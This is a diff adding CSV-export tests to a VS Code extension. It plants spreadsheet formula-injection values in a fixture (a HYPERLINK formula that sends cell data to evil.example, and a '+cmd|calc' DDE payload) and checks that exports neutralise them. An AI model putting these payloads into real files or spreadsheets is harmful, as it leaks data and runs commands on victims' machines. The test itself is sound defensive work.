@@ -2,11 +2,15 @@
 // built from what customers wrote carry no live links, and the Incidents view keeps the
 // recently resolved by the domain's rule.
 import { strict as assert } from 'node:assert';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import * as vscode from 'vscode';
+import { parse } from 'csv-parse/sync';
 import type { LoyalApi } from '../../src/extension';
 import type { TrendsPanel } from '../../src/panels/trendsPanel';
 import { DEFAULT_TRENDS_QUERY } from '../../src/panels/trendsPanel';
-import { activateLoyal, closeAllEditors, freshFixture, waitFor } from './harness';
+import { activateLoyal, closeAllEditors, freshFixture, resetWorkspaceFile, waitFor } from './harness';
 
 describe('the trend review page checks every message from the host', function () {
   this.timeout(120_000);
@@ -39,6 +43,60 @@ describe('the trend review page checks every message from the host', function ()
     assert.equal(next.renderCount, first.renderCount + 1);
     assert.equal(next.total, loyal.session.file.incidents.length);
     // A reopened review starts from the query it was left with: leave it as other tests expect.
+    await panel.applyQuery(DEFAULT_TRENDS_QUERY);
+  });
+});
+
+const EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+
+/** The fixture book with a customer, an incident tag and a component written like formulas. */
+async function hostileFixture(loyal: LoyalApi): Promise<void> {
+  const path = resetWorkspaceFile('loyal.json');
+  const file = JSON.parse(readFileSync(path, 'utf8'));
+  file.customers[0].name = EVIL_NAME;
+  file.customers[0].company = '@SUM(A1:A9)';
+  for (const incident of file.incidents) {
+    incident.tags = ['+cmd|calc'];
+    incident.component = '-2+3';
+  }
+  writeFileSync(path, JSON.stringify(file, null, 2) + '\n');
+  await loyal.session.reload();
+  await waitFor('the hostile book', () => loyal.session.state === 'ok' && loyal.session.file.customers.some((c) => c.name === EVIL_NAME));
+}
+
+describe('CSV exports from the editor', function () {
+  this.timeout(120_000);
+  let loyal: LoyalApi;
+  const scratch = mkdtempSync(join(tmpdir(), 'loyal-export-'));
+
+  before(async () => {
+    loyal = (await activateLoyal<LoyalApi>()).exports;
+    await loyal.ready;
+    await hostileFixture(loyal);
+  });
+
+  after(async () => {
+    await closeAllEditors();
+    rmSync(scratch, { recursive: true, force: true });
+    await freshFixture(loyal);
+  });
+
+  it('neutralise a customer named like a formula in Export CSV', async () => {
+    const target = join(scratch, 'customers.csv');
+    assert.equal(await vscode.commands.executeCommand('loyal.export', { kind: 'customers', path: target }), target);
+    const rows = parse(readFileSync(target, 'utf8'), { columns: true }) as Array<Record<string, string>>;
+    const row = rows.find((r) => r.name.includes('HYPERLINK'))!;
+    assert.equal(row.name, `'${EVIL_NAME}`);
+    assert.equal(row.company, "'@SUM(A1:A9)");
+  });
+
+  it('neutralise tags and components in the trend review tables', async () => {
+    const panel = (await vscode.commands.executeCommand<TrendsPanel>('loyal.trends.open'))!;
+    await panel.applyQuery({ preset: 'all', bucket: 'month', filters: {} });
+    const top = parse(readFileSync(await panel.exportTo('csv', join(scratch, 'top.csv'), 'topComplaints'), 'utf8'), { bom: true, columns: true }) as Array<Record<string, string>>;
+    assert.equal(top[0].tag, "'+cmd|calc");
+    const components = parse(readFileSync(await panel.exportTo('csv', join(scratch, 'components.csv'), 'byComponent'), 'utf8'), { bom: true, columns: true }) as Array<Record<string, string>>;
+    assert.equal(components[0].component, "'-2+3");
     await panel.applyQuery(DEFAULT_TRENDS_QUERY);
   });
 });
